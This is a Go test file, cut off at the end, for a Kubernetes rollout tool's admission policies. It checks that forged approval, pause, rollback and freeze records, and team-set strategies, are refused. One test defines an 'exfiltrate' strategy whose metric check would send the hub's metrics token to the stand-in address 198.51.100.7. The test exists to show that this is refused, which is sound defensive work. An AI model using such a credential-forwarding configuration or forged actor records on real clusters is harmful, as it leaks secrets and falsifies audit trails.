package rolloutctl

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	fleetv1alpha1 "github.com/flotilla-dev/flotilla/api/v1alpha1"
	"github.com/flotilla-dev/flotilla/internal/kube"
	"github.com/flotilla-dev/flotilla/internal/testenv"
)

// The hub's admission policies (config/hub/actors-policy.yaml) are installed
// on every test hub: these tests act as a team member and as a platform
// engineer, impersonated, with the per-team RBAC of
// docs/howto/per-team-setup.md.

const (
	actorsNS = "team-actors"
	teamUser = "alice"
	platUser = "pat"
	cto      = "cto@example.com"
)

// actorsSetup grants the team (alice, group team-actors) the per-team rights
// on actorsNS, plus creating FleetFreezes, and the platform (pat) the rights
// of a platform engineer; it returns clients acting as each.
func actorsSetup(t *testing.T, ctx context.Context) (team, platform client.WithWatch, teamCfg, platformCfg *rest.Config) {
	t.Helper()
	admin := adminClient(t)
	ensureNamespace(t, ctx, admin, actorsNS)
	objs := []client.Object{
		&rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "actors-tenant"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{fleetv1alpha1.Group}, Resources: []string{"rollouts"}, Verbs: []string{"get", "list", "watch", "patch"}},
			// Not in the per-team how-to: lets the test show a forged frozenBy is refused.
			{APIGroups: []string{fleetv1alpha1.Group}, Resources: []string{"fleetfreezes"}, Verbs: []string{"get", "list", "create", "update", "patch", "delete"}},
			{APIGroups: []string{fleetv1alpha1.Group}, Resources: []string{"rolloutstrategies"}, Verbs: []string{"get", "list", "watch"}},
			{APIGroups: []string{fleetv1alpha1.Group}, Resources: []string{"driftexceptions"}, Verbs: []string{"get", "list", "watch", "create", "update", "patch", "delete"}},
		}},
		&rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "actors-tenant", Namespace: actorsNS},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "actors-tenant"},
			Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "Group", Name: "team-actors"}}},
		&rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "actors-tenant-freeze"},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "actors-tenant"},
			Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "Group", Name: "team-actors"}}},
		&rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "actors-platform"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{fleetv1alpha1.Group}, Resources: []string{"rollouts", "rolloutstrategies", "fleetfreezes", "driftexceptions"}, Verbs: []string{"*"}},
		}},
		&rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "actors-platform"},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "actors-platform"},
			Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: platUser}}},
	}
	for _, o := range objs {
		if err := admin.Create(ctx, o); err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatal(err)
		}
	}
	teamCfg = rest.CopyConfig(hub.RESTConfig)
	teamCfg.Impersonate = rest.ImpersonationConfig{UserName: teamUser, Groups: []string{"team-actors", "system:authenticated"}}
	platformCfg = rest.CopyConfig(hub.RESTConfig)
	platformCfg.Impersonate = rest.ImpersonationConfig{UserName: platUser, Groups: []string{"platform", "system:authenticated"}}
	testenv.WaitAllowed(t, teamCfg, authorizationv1.ResourceAttributes{Namespace: actorsNS, Verb: "patch", Group: fleetv1alpha1.Group, Resource: "rollouts"})
	testenv.WaitAllowed(t, teamCfg, authorizationv1.ResourceAttributes{Verb: "create", Group: fleetv1alpha1.Group, Resource: "fleetfreezes"})
	testenv.WaitAllowed(t, platformCfg, authorizationv1.ResourceAttributes{Namespace: actorsNS, Verb: "patch", Group: fleetv1alpha1.Group, Resource: "rollouts"})
	testenv.WaitAllowed(t, platformCfg, authorizationv1.ResourceAttributes{Verb: "update", Group: fleetv1alpha1.Group, Resource: "rolloutstrategies"})
	newc := func(cfg *rest.Config) client.WithWatch {
		c, err := client.NewWithWatch(cfg, client.Options{Scheme: kube.NewScheme()})
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	return newc(teamCfg), newc(platformCfg), teamCfg, platformCfg
}

// teamRollout creates, as admin, an instance Rollout in actorsNS the way the
// hub does: started by the hub, Progressive, with the Promise's strategy.
func teamRollout(t *testing.T, ctx context.Context, name string, edit ...func(*fleetv1alpha1.Rollout)) {
	t.Helper()
	r := &fleetv1alpha1.Rollout{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: actorsNS, Annotations: map[string]string{fleetv1alpha1.AnnotationStartedBy: "hub"}},
		Spec: fleetv1alpha1.RolloutSpec{
			Subject:        fleetv1alpha1.RolloutSubject{Promise: "app", Instance: &fleetv1alpha1.LocalObjectReference{Name: "db"}},
			FromRevision:   "db-r1",
			TargetRevision: "db-r2",
			UpdatePolicy:   fleetv1alpha1.UpdatePolicy{Mode: fleetv1alpha1.UpdateModeProgressive},
		},
	}
	for _, fn := range edit {
		fn(r)
	}
	if err := adminClient(t).Create(ctx, r); err != nil {
		t.Fatal(err)
	}
}

// handRollout is a Rollout of instance db created by hand (not by the hub),
// with annotations, deleted when the test ends.
func handRollout(t *testing.T, name string, annotations map[string]string) *fleetv1alpha1.Rollout {
	t.Helper()
	r := &fleetv1alpha1.Rollout{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: actorsNS, Annotations: annotations},
		Spec: fleetv1alpha1.RolloutSpec{
			Subject:        fleetv1alpha1.RolloutSubject{Promise: "app", Instance: &fleetv1alpha1.LocalObjectReference{Name: "db"}},
			FromRevision:   "db-r3",
			TargetRevision: "db-r4",
		},
	}
	admin := adminClient(t)
	t.Cleanup(func() { _ = deleteWithUID(admin, r) })
	return r
}

// patch merge-patches Rollout actorsNS/name as c.
func patch(ctx context.Context, c client.Client, name, body string) error {
	r := &fleetv1alpha1.Rollout{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: actorsNS}}
	return c.Patch(ctx, r, client.RawPatch(types.MergePatchType, []byte(body)))
}

// wantRefused fails unless err is the admission policy's refusal mentioning want.
func wantRefused(t *testing.T, what string, err error, want string) {
	t.Helper()
	if err == nil {
		t.Errorf("%s: accepted, want refused", what)
		return
	}
	if !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), want) {
		t.Errorf("%s: %v, want a refusal saying %q", what, err, want)
	}
}

func wantAccepted(t *testing.T, what string, err error) {
	t.Helper()
	if err != nil {
		t.Errorf("%s: %v, want accepted", what, err)
	}
}

// waitPolicy waits until the API server enforces the freshly installed
// policy: admission policies load a moment after they are created.
func waitPolicy(t *testing.T, ctx context.Context, team client.Client, name string) {
	t.Helper()
	// The expressions type-check against the CRDs' schemas, where a
	// kube-controller-manager has checked them (test hubs run none: the
	// refusals below are the real check).
	for _, policy := range []string{"flotilla-rollout-actors", "flotilla-freeze-actors"} {
		vap := &admissionregistrationv1.ValidatingAdmissionPolicy{}
		if err := adminClient(t).Get(ctx, client.ObjectKey{Name: policy}, vap); err != nil {
			t.Fatal(err)
		}
		if tc := vap.Status.TypeChecking; tc != nil && len(tc.ExpressionWarnings) > 0 {
			t.Errorf("%s: type checking warnings %+v", policy, tc.ExpressionWarnings)
		}
	}
	// A probe the policy lets through (not enforced yet) is undone by
	// putting back the approvals the test started with.
	before := &fleetv1alpha1.Rollout{}
	if err := adminClient(t).Get(ctx, client.ObjectKey{Namespace: actorsNS, Name: name}, before); err != nil {
		t.Fatal(err)
	}
	restore, err := json.Marshal(map[string]any{"spec": map[string]any{"approvals": before.Spec.Approvals}})
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		err := patch(ctx, team, name, `{"spec":{"approvals":[{"wave":"probe","by":"`+cto+`"}]}}`)
		if err != nil {
			return
		}
		if err := patch(ctx, adminClient(t), name, string(restore)); err != nil {
			t.Fatal(err)
		}
		if time.Now().After(deadline) {
			t.Fatal("the admission policy flotilla-rollout-actors is not enforced after 30s")
		}
		time.Sleep(200 * time.Millisecond)
	}
}

func TestForgedActorsAreRefused(t *testing.T) {
	ctx := testContext(t)
	team, _, _, _ := actorsSetup(t, ctx)
	teamRollout(t, ctx, "forged", func(r *fleetv1alpha1.Rollout) {
		r.Spec.Approvals = []fleetv1alpha1.Approval{{Wave: "dev", ChangeRecord: fleetv1alpha1.ChangeRecord{By: "bob", Message: "given earlier"}}}
	})
	waitPolicy(t, ctx, team, "forged")

	// approvals: a new approval names the caller; an existing one stays.
	wantRefused(t, "approval by the CTO", patch(ctx, team, "forged",
		`{"spec":{"approvals":[{"wave":"dev","by":"bob","message":"given earlier"},{"wave":"prod","by":"`+cto+`"}]}}`), "set by to alice")
	wantRefused(t, "approval without by", patch(ctx, team, "forged",
		`{"spec":{"approvals":[{"wave":"dev","by":"bob","message":"given earlier"},{"wave":"prod"}]}}`), "set by to alice")
	wantRefused(t, "bob's approval rewritten", patch(ctx, team, "forged",
		`{"spec":{"approvals":[{"wave":"dev","by":"bob","message":"changed"}]}}`), "set by to alice")
	wantAccepted(t, "approval by the caller", patch(ctx, team, "forged",
		`{"spec":{"approvals":[{"wave":"dev","by":"bob","message":"given earlier"},{"wave":"prod","by":"alice"}]}}`))

	// stateChange: a new record names the caller, and comes with any desiredState change.
	wantRefused(t, "pause by the CTO", patch(ctx, team, "forged",
		`{"spec":{"desiredState":"Paused","stateChange":{"by":"`+cto+`"}}}`), "set stateChange.by to alice")
	wantAccepted(t, "pause by the caller", patch(ctx, team, "forged",
		`{"spec":{"desiredState":"Paused","stateChange":{"by":"alice","message":"look"}}}`))
	wantRefused(t, "resume keeping alice's record", patch(ctx, adminAsTeam(t, "bob"), "forged",
		`{"spec":{"desiredState":"Running"}}`), "needs a new stateChange")

	// rollback
	wantRefused(t, "rollback by the CTO", patch(ctx, team, "forged",
		`{"spec":{"rollback":{"by":"`+cto+`"}}}`), "set rollback.by to alice")
	wantAccepted(t, "rollback by the caller", patch(ctx, team, "forged",
		`{"spec":{"rollback":{"by":"alice","message":"bad"}}}`))

	// check actions: a re-run or skip names the caller; one already given stays.
	wantRefused(t, "skip by the CTO", patch(ctx, team, "forged",
		`{"spec":{"checkActions":[{"wave":"dev","check":"errors","action":"Skip","by":"`+cto+`","message":"trust me"}]}}`), "set by to alice")
	wantRefused(t, "skip without a reason", patch(ctx, team, "forged",
		`{"spec":{"checkActions":[{"wave":"dev","check":"errors","action":"Skip","by":"alice"}]}}`), "needs a reason")
	wantAccepted(t, "re-run by the caller", patch(ctx, team, "forged",
		`{"spec":{"checkActions":[{"wave":"dev","check":"errors","action":"Rerun","by":"alice"}]}}`))
	wantRefused(t, "alice's re-run rewritten by bob", patch(ctx, adminAsTeam(t, "bob"), "forged",
		`{"spec":{"checkActions":[{"wave":"dev","check":"errors","action":"Rerun","by":"alice","message":"changed"}]}}`), "set by to bob")
	wantAccepted(t, "bob's re-run next to alice's", patch(ctx, adminAsTeam(t, "bob"), "forged",
		`{"spec":{"checkActions":[{"wave":"dev","check":"errors","action":"Rerun","by":"alice"},{"wave":"dev","check":"latency","action":"Rerun","by":"bob","message":"prometheus is back"}]}}`))

	got := &fleetv1alpha1.Rollout{}
	if err := adminClient(t).Get(ctx, client.ObjectKey{Namespace: actorsNS, Name: "forged"}, got); err != nil {
		t.Fatal(err)
	}
	if len(got.Spec.CheckActions) != 2 || got.Spec.CheckActions[0].By != teamUser || got.Spec.CheckActions[1].By != "bob" {
		t.Errorf("checkActions = %+v, want alice's re-run and bob's", got.Spec.CheckActions)
	}
	if a := approvalOf(got, "dev"); a == nil || a.By != "bob" {
		t.Errorf("bob's approval = %+v, want kept", a)
	}
	if a := approvalOf(got, "prod"); a == nil || a.By != teamUser {
		t.Errorf("prod approval = %+v, want alice's", a)
	}
	if got.Spec.StateChange == nil || got.Spec.StateChange.By != teamUser || got.Spec.Rollback == nil || got.Spec.Rollback.By != teamUser {
		t.Errorf("stateChange = %+v, rollback = %+v, want alice's", got.Spec.StateChange, got.Spec.Rollback)
	}

	// frozenBy
	freeze := func(name, by string) *fleetv1alpha1.FleetFreeze {
		return &fleetv1alpha1.FleetFreeze{ObjectMeta: metav1.ObjectMeta{Name: name},
			Spec: fleetv1alpha1.FleetFreezeSpec{Reason: "incident", FrozenBy: by}}
	}
	wantRefused(t, "freeze by the CTO", team.Create(ctx, freeze("actors-forged", cto)), "set frozenBy to alice")
	wantRefused(t, "freeze without frozenBy", team.Create(ctx, freeze("actors-anon", "")), "set frozenBy to alice")
	f := freeze("actors-own", teamUser)
	wantAccepted(t, "freeze by the caller", team.Create(ctx, f))
	t.Cleanup(func() { _ = adminClient(t).Delete(context.Background(), f) })
	wantRefused(t, "freeze handed to the CTO", team.Patch(ctx, f, client.RawPatch(types.MergePatchType,
		[]byte(`{"spec":{"frozenBy":"`+cto+`"}}`))), "set frozenBy to alice")
	wantAccepted(t, "freeze metadata-only update", team.Patch(ctx, f, client.RawPatch(types.MergePatchType,
		[]byte(`{"metadata":{"labels":{"seen":"yes"}}}`))))
}

// adminAsTeam is a client acting as another member of the team.
func adminAsTeam(t *testing.T, user string) client.Client {
	t.Helper()
	cfg := rest.CopyConfig(hub.RESTConfig)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: []string{"team-actors", "system:authenticated"}}
	c, err := client.New(cfg, client.Options{Scheme: kube.NewScheme()})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestOnlyThePlatformChangesStrategyOrMode(t *testing.T) {
	ctx := testContext(t)
	team, platform, _, _ := actorsSetup(t, ctx)
	teamRollout(t, ctx, "gates", func(r *fleetv1alpha1.Rollout) {
		r.Spec.StrategyRef = &fleetv1alpha1.LocalObjectReference{Name: "careful"}
	})
	waitPolicy(t, ctx, team, "gates")

	for _, tc := range []struct{ what, body string }{
		{"inline strategy", `{"spec":{"strategyRef":null,"strategy":{"waves":[{"name":"all","selector":{}}]},"policyChange":{"by":"alice"}}}`},
		{"strategyRef", `{"spec":{"strategyRef":{"name":"yolo"},"policyChange":{"by":"alice"}}}`},
		{"Immediate", `{"spec":{"updatePolicy":{"mode":"Immediate","reason":"now"},"policyChange":{"by":"alice"}}}`},
	} {
		wantRefused(t, "team: "+tc.what, patch(ctx, team, "gates", tc.body), "only the platform may change")
	}

	wantRefused(t, "platform: Immediate without a record", patch(ctx, platform, "gates",
		`{"spec":{"updatePolicy":{"mode":"Immediate","reason":"CVE"}}}`), "needs a new policyChange")
	wantRefused(t, "platform: Immediate recorded as the CTO", patch(ctx, platform, "gates",
		`{"spec":{"updatePolicy":{"mode":"Immediate","reason":"CVE"},"policyChange":{"by":"`+cto+`"}}}`), "set policyChange.by to pat")
	wantAccepted(t, "platform: Immediate", patch(ctx, platform, "gates",
		`{"spec":{"updatePolicy":{"mode":"Immediate","reason":"CVE"},"policyChange":{"by":"pat","message":"CVE"}}}`))
	wantAccepted(t, "platform: strategyRef", patch(ctx, platform, "gates",
		`{"spec":{"strategyRef":{"name":"fast"},"policyChange":{"by":"pat","message":"faster"}}}`))

	// The team still operates the Rollout, with pat's record left as it is.
	wantAccepted(t, "team: approval after the platform's change", patch(ctx, team, "gates",
		`{"spec":{"approvals":[{"wave":"prod","by":"alice"}]}}`))
}

// The CLI's operations fill by from a SelfSubjectReview: they pass the
// policy and record the caller.
func TestCLIOperationsRecordTheCaller(t *testing.T) {
	ctx := testContext(t)
	team, _, teamCfg, _ := actorsSetup(t, ctx)
	teamRollout(t, ctx, "cli-ops", func(r *fleetv1alpha1.Rollout) {
		r.Spec.Approvals = []fleetv1alpha1.Approval{{Wave: "dev", ChangeRecord: fleetv1alpha1.ChangeRecord{By: "bob"}}}
	})
	waitPolicy(t, ctx, team, "cli-ops")

	c, err := New(teamCfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Approve(ctx, actorsNS, "cli-ops", ApproveOptions{Wave: "prod", Message: "ok"}); err != nil {
		t.Fatalf("approve: %v", err)
	}
	if _, err := c.Pause(ctx, actorsNS, "cli-ops", "look"); err != nil {
		t.Fatalf("pause: %v", err)
	}
	if _, err := c.Resume(ctx, actorsNS, "cli-ops", "go"); err != nil {
		t.Fatalf("resume: %v", err)
	}
	if _, err := c.Rollback(ctx, actorsNS, "cli-ops", RollbackOptions{Message: "bad"}); err != nil {
		t.Fatalf("rollback: %v", err)
	}
	f, err := c.Freeze(ctx, FreezeOptions{Name: "actors-cli", Reason: "incident"})
	if err != nil {
		t.Fatalf("freeze: %v", err)
	}
	t.Cleanup(func() { _ = adminClient(t).Delete(context.Background(), f) })

	got := &fleetv1alpha1.Rollout{}
	if err := adminClient(t).Get(ctx, client.ObjectKey{Namespace: actorsNS, Name: "cli-ops"}, got); err != nil {
		t.Fatal(err)
	}
	if a := approvalOf(got, "prod"); a == nil || a.By != teamUser {
		t.Errorf("approval = %+v, want by alice", a)
	}
	if a := approvalOf(got, "dev"); a == nil || a.By != "bob" {
		t.Errorf("bob's approval = %+v, want kept", a)
	}
	if got.Spec.StateChange == nil || got.Spec.StateChange.By != teamUser {
		t.Errorf("stateChange = %+v, want by alice", got.Spec.StateChange)
	}
	if got.Spec.Rollback == nil || got.Spec.Rollback.By != teamUser {
		t.Errorf("rollback = %+v, want by alice", got.Spec.Rollback)
	}
	if f.Spec.FrozenBy != teamUser {
		t.Errorf("frozenBy = %q, want alice", f.Spec.FrozenBy)
	}
}

// The mode verbs (flotilla rollout immediate / force) record the caller in
// policyChange, and are the platform's.
func TestModeVerbsArePlatformOnlyAndRecordTheCaller(t *testing.T) {
	ctx := testContext(t)
	team, _, teamCfg, platformCfg := actorsSetup(t, ctx)
	teamRollout(t, ctx, "mode-immediate")
	teamRollout(t, ctx, "mode-deadline", func(r *fleetv1alpha1.Rollout) {
		r.Spec.UpdatePolicy = fleetv1alpha1.UpdatePolicy{Mode: fleetv1alpha1.UpdateModeDeadline,
			Deadline: &metav1.Time{Time: time.Now().Add(24 * time.Hour).Truncate(time.Second)}}
	})
	waitPolicy(t, ctx, team, "mode-immediate")

	alice, err := New(teamCfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	pat, err := New(platformCfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	_, err = alice.SwitchToImmediate(ctx, actorsNS, "mode-immediate", "skip the waves")
	wantRefused(t, "team: immediate", err, "only the platform may change")
	_, err = alice.ForceDeadline(ctx, actorsNS, "mode-deadline", "now")
	wantRefused(t, "team: force", err, "only the platform may change")

	if _, err := pat.SwitchToImmediate(ctx, actorsNS, "mode-immediate", "CVE-1"); err != nil {
		t.Fatalf("platform: immediate: %v", err)
	}
	if _, err := pat.ForceDeadline(ctx, actorsNS, "mode-deadline", "enough waiting"); err != nil {
		t.Fatalf("platform: force: %v", err)
	}
	for _, name := range []string{"mode-immediate", "mode-deadline"} {
		got := &fleetv1alpha1.Rollout{}
		if err := adminClient(t).Get(ctx, client.ObjectKey{Namespace: actorsNS, Name: name}, got); err != nil {
			t.Fatal(err)
		}
		if got.Spec.PolicyChange == nil || got.Spec.PolicyChange.By != platUser {
			t.Errorf("%s: policyChange = %+v, want by pat", name, got.Spec.PolicyChange)
		}
		if name == "mode-immediate" && got.Spec.UpdatePolicy.Mode != fleetv1alpha1.UpdateModeImmediate {
			t.Errorf("%s: updatePolicy = %+v", name, got.Spec.UpdatePolicy)
		}
		if name == "mode-deadline" && got.Spec.UpdatePolicy.Deadline.After(time.Now()) {
			t.Errorf("%s: deadline %v not forced", name, got.Spec.UpdatePolicy.Deadline)
		}
	}
}

// A team given create on rollouts (the per-team how-to grants only patch,
// but an operator may well add it) could create its instance's next Rollout
// with its own gates: one wave, no approval, Immediate, or a hub metric check
// whose credentials the hub would send to the team's address. Creating a
// Rollout with its own strategy, strategyRef or a non-Progressive update
// policy is the platform's, or the hub's, like changing them.
func TestOnlyThePlatformCreatesARolloutWithItsOwnGates(t *testing.T) {
	ctx := testContext(t)
	_, platform, _, _ := actorsSetup(t, ctx)
	admin := adminClient(t)
	creator, hubClient := creatorAndHub(t, ctx)
	teamRollout(t, ctx, "create-probe")
	waitPolicy(t, ctx, creator, "create-probe")

	newRollout := func(name string, edit func(*fleetv1alpha1.Rollout)) *fleetv1alpha1.Rollout {
		r := &fleetv1alpha1.Rollout{
			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: actorsNS},
			Spec: fleetv1alpha1.RolloutSpec{
				Subject:        fleetv1alpha1.RolloutSubject{Promise: "app", Instance: &fleetv1alpha1.LocalObjectReference{Name: "db"}},
				FromRevision:   "db-r2",
				TargetRevision: "db-r3",
			},
		}
		if edit != nil {
			edit(r)
		}
		t.Cleanup(func() { _ = deleteWithUID(admin, r) })
		return r
	}
	exfiltrate := &fleetv1alpha1.RolloutStrategySpec{
		Waves: []fleetv1alpha1.Wave{{Name: "all", Selector: &fleetv1alpha1.WaveSelector{}}},
		Checks: []fleetv1alpha1.Check{{Name: "steal", Metric: &fleetv1alpha1.MetricCheck{
			Placement: fleetv1alpha1.CheckOnHub, Address: "http://198.51.100.7:9090", Query: "up",
			CredentialsRef: &fleetv1alpha1.SecretReference{Name: "thanos-token"},
		}, Condition: "true"}},
	}
	attacks := []struct {
		what string
		edit func(*fleetv1alpha1.Rollout)
	}{
		{"one wave, no approval, and the hub's metrics token sent to the team", func(r *fleetv1alpha1.Rollout) { r.Spec.Strategy = exfiltrate.DeepCopy() }},
		{"a strategyRef the Promise does not name", func(r *fleetv1alpha1.Rollout) {
			r.Spec.StrategyRef = &fleetv1alpha1.LocalObjectReference{Name: "yolo"}
		}},
		{"Immediate", func(r *fleetv1alpha1.Rollout) {
			r.Spec.UpdatePolicy = fleetv1alpha1.UpdatePolicy{Mode: fleetv1alpha1.UpdateModeImmediate, Reason: "now"}
		}},
	}
	for i, a := range attacks {
		wantRefused(t, "team creates: "+a.what, creator.Create(ctx, newRollout(fmt.Sprintf("team-gates-%d", i), a.edit)),
			"only the platform may create a Rollout with its own strategy")
	}

	// What the team may create: a Rollout of its instance under the
	// platform's gates (the Promise's strategy, Progressive).
	wantAccepted(t, "team creates under the Promise's gates", creator.Create(ctx, newRollout("team-plain", nil)))
	// The platform and the hub set gates when they create.
	wantAccepted(t, "platform creates with an inline strategy", platform.Create(ctx, newRollout("platform-gates", attacks[0].edit)))
	wantAccepted(t, "hub creates Immediate with a strategyRef", hubClient.Create(ctx, newRollout("hub-gates", func(r *fleetv1alpha1.Rollout) {
		attacks[1].edit(r)
		attacks[2].edit(r)
	})))
}

// creatorAndHub returns clients acting as alice of the team, also granted
// create on rollouts in actorsNS (beyond the per-team how-to), and as the
// hub, with exactly the rights config/hub/rbac.yaml gives it.
func creatorAndHub(t *testing.T, ctx context.Context) (creator, hubClient client.Client) {
	t.Helper()
	admin := adminClient(t)
	const creatorGroup = "team-actors-creators"
	for _, o := range []client.Object{
		&rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "actors-rollout-creator", Namespace: actorsNS}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{fleetv1alpha1.Group}, Resources: []string{"rollouts"}, Verbs: []string{"get", "list", "watch", "create", "patch"}},
		}},
		&rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "actors-rollout-creator", Namespace: actorsNS},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "actors-rollout-creator"},
			Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "Group", Name: creatorGroup}}},
	} {
		if err := admin.Create(ctx, o); err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatal(err)
		}
	}
	creatorCfg := rest.CopyConfig(hub.RESTConfig)
	creatorCfg.Impersonate = rest.ImpersonationConfig{UserName: teamUser, Groups: []string{"team-actors", creatorGroup, "system:authenticated"}}
	testenv.WaitAllowed(t, creatorCfg, authorizationv1.ResourceAttributes{Namespace: actorsNS, Verb: "create", Group: fleetv1alpha1.Group, Resource: "rollouts"})
	creator, err := client.New(creatorCfg, client.Options{Scheme: kube.NewScheme()})
	if err != nil {
		t.Fatal(err)
	}
	// The hub, with exactly the rights config/hub/rbac.yaml gives it.
	hubCfg := rest.CopyConfig(hub.RESTConfig)
	hubCfg.Impersonate = rest.ImpersonationConfig{UserName: grantHubRole(t, ctx), Groups: []string{"system:serviceaccounts", "system:authenticated"}}
	testenv.WaitAllowed(t, hubCfg, authorizationv1.ResourceAttributes{Namespace: actorsNS, Verb: "create", Group: fleetv1alpha1.Group, Resource: "rollouts"})
	hubClient, err = client.New(hubCfg, client.Options{Scheme: kube.NewScheme()})
	if err != nil {
		t.Fatal(err)
	}
	return creator, hubClient
}

// grantHubRole binds the hub's ClusterRole, read from config/hub/rbac.yaml
// (under another name), to a service account user and returns its name.
func grantHubRole(t *testing.T, ctx context.Context) string {
	t.Helper()
	b, err := os.ReadFile("../../config/hub/rbac.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var role rbacv1.ClusterRole
	for _, doc := range strings.Split(string(b), "\n---") {
		var r rbacv1.ClusterRole
		if err := yaml.Unmarshal([]byte(doc), &r); err != nil {
			t.Fatal(err)
		}
		if r.Kind == "ClusterRole" && r.Name == "flotilla-hub" {
			role = r
		}
	}
	if len(role.Rules) == 0 {
		t.Fatal("no ClusterRole flotilla-hub in config/hub/rbac.yaml")
	}
	const user = "system:serviceaccount:flotilla-system:actors-hub"
	admin := adminClient(t)
	for _, o := range []client.Object{
		&rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "actors-hub"}, Rules: role.Rules},
		&rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "actors-hub"},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "actors-hub"},
			Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: user}}},
	} {
		if err := admin.Create(ctx, o); err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatal(err)
		}
	}
	return user
}

// A policyChange is the record of a change of strategy, strategyRef or
// updatePolicy, which the hub writes into the history ("strategy or update
// policy changed … by") and a PolicyChanged Event: a team member may not
// write one alone, to record a policy change that did not happen under its
// name, nor replace the platform's record of a switch to Immediate with its
// own (TestATeamCannotRecordAPolicyChangeThatDidNotHappen in
// internal/controller/rollout, for what the hub made of it). The platform's
// own records still come with its changes.
func TestAPolicyChangeComesWithAChange(t *testing.T) {
	ctx := testContext(t)
	team, platform, _, _ := actorsSetup(t, ctx)
	teamRollout(t, ctx, "pc-plain")
	teamRollout(t, ctx, "pc-immediate", func(r *fleetv1alpha1.Rollout) {
		r.Spec.UpdatePolicy = fleetv1alpha1.UpdatePolicy{Mode: fleetv1alpha1.UpdateModeImmediate, Reason: "CVE-1"}
		r.Spec.PolicyChange = &fleetv1alpha1.ChangeRecord{By: platUser, Message: "CVE-1"}
	})
	waitPolicy(t, ctx, team, "pc-plain")

	const want = "a new policyChange records a change"
	wantRefused(t, "team: a policyChange alone", patch(ctx, team, "pc-plain",
		`{"spec":{"policyChange":{"by":"alice","message":"switched to Immediate with the CTO's sign-off"}}}`), want)
	wantRefused(t, "team: its own record over the platform's switch to Immediate", patch(ctx, team, "pc-immediate",
		`{"spec":{"policyChange":{"by":"alice","message":"CVE-1, my call"}}}`), want)
	wantRefused(t, "platform: a policyChange alone", patch(ctx, platform, "pc-plain",
		`{"spec":{"policyChange":{"by":"pat","message":"nothing changed"}}}`), want)
	wantAccepted(t, "platform: a policyChange with its change", patch(ctx, platform, "pc-plain",
		`{"spec":{"strategyRef":{"name":"fast"},"policyChange":{"by":"pat","message":"faster"}}}`))
	wantRefused(t, "team: the platform's record of its switch to Immediate removed", patch(ctx, team, "pc-immediate",
		`{"spec":{"policyChange":null}}`), "only the platform may remove")
	// The team still operates both, the platform's record left as it is.
	wantAccepted(t, "team: an approval next to the platform's record", patch(ctx, team, "pc-immediate",
		`{"spec":{"approvals":[{"wave":"immediate","by":"alice"}]}}`))

	creator, _ := creatorAndHub(t, ctx)
	r := &fleetv1alpha1.Rollout{
		ObjectMeta: metav1.ObjectMeta{Name: "pc-created", Namespace: actorsNS},
		Spec: fleetv1alpha1.RolloutSpec{
			Subject:        fleetv1alpha1.RolloutSubject{Promise: "app", Instance: &fleetv1alpha1.LocalObjectReference{Name: "db"}},
			FromRevision:   "db-r2",
			TargetRevision: "db-r3",
			PolicyChange:   &fleetv1alpha1.ChangeRecord{By: teamUser, Message: "the platform's gates, by me"},
		},
	}
	t.Cleanup(func() { _ = deleteWithUID(adminClient(t), r) })
	wantRefused(t, "team creates with a policyChange", creator.Create(ctx, r), want)
}

// A re-run of a check the hub no longer measures (its wave over, the
// Rollout rolling back or over, a Progress check once the wave bakes) is
// refused when written by hand, as rerun-check refuses it: the hub would
// ignore it, and the person would believe the check measured again.
func TestARerunTheHubWouldIgnoreIsRefused(t *testing.T) {
	ctx := testContext(t)
	team, platform, _, _ := actorsSetup(t, ctx)
	admin := adminClient(t)
